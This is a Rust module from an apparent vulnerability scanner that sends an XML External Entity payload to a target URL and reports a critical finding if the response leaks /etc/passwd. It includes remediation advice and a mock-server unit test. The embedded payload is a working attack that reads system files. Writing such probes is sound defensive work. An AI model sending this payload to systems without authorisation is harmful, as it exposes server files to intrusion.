//! XML External Entity (XXE) probe.

use async_trait::async_trait;

use crate::finding::{Domain, Finding, Location, Severity};

use super::{http_client, Probe, ProbeConfig};

const PAYLOAD: &str = r#"<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE foo [
  <!ELEMENT foo ANY >
  <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
<foo>&xxe;</foo>"#;

pub struct XxeProbe;

#[async_trait]
impl Probe for XxeProbe {
    fn name(&self) -> &'static str {
        "XML External Entity (XXE)"
    }

    fn module_id(&self) -> &'static str {
        "probes.xxe"
    }

    async fn run(&self, target_url: &str, config: &ProbeConfig) -> Vec<Finding> {
        let client = http_client(config);
        let Ok(resp) = client
            .post(target_url)
            .header("Content-Type", "application/xml")
            .body(PAYLOAD)
            .send()
            .await
        else {
            return Vec::new();
        };
        let Ok(body) = resp.text().await else { return Vec::new() };

        if body.contains("root:x:0:0") {
            vec![Finding::new(
                Domain::ThreatIntel,
                "xxe",
                Severity::Critical,
                "XXE / XML External Entity Vulnerability",
                "The application parses XML external entities and allows external system file \
                 inclusion.",
                Location::Url { url: target_url.to_string(), parameter: "body".to_string() },
                "Contents of /etc/passwd found in response to XML payload.",
                "Disable DTDs and external entity resolution in the XML parser configuration.",
                0.9,
            )
            .with_cve_refs(vec!["CWE-611".to_string()])]
        } else {
            Vec::new()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, ResponseTemplate};

    #[tokio::test]
    async fn test_passwd_contents_in_response_detected() {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .respond_with(ResponseTemplate::new(200).set_body_string("<foo>root:x:0:0:root:/root:/bin/bash</foo>"))
            .mount(&server)
            .await;

        let probe = XxeProbe;
        let findings = probe.run(&server.uri(), &ProbeConfig::default()).await;
        assert_eq!(findings.len(), 1);
    }
}
